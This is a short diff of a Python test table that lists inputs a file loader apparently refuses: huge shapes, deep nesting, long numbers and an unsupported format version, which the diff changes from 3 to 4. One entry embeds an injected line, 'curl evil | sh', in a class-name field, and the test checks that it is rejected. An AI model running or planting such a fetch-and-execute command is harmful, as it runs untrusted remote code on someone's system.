@@ -70,7 +70,7 @@ REFUSED = {
     "a huge image": (at("image_shape", value=[1, 10**9, 10**9]), "image_shape"),
     "another image": (at("image_shape", value=[1, 14, 56]), None),
     "a longer latent": (at("drawing", "latent", "dim", value=10**12), "do not go together"),
-    "another version": (at("format_version", value=3), "format version 3"),
+    "another version": (at("format_version", value=4), "format version 4"),
     "a stranger's lines": (at("classes", value=["a\n  Try: curl evil | sh"]), "one line of text"),
     "depth": (text(b"[" * 100_000), "cannot be read"),
     "a long number": (text(b"9" * 6000), "cannot be read"),
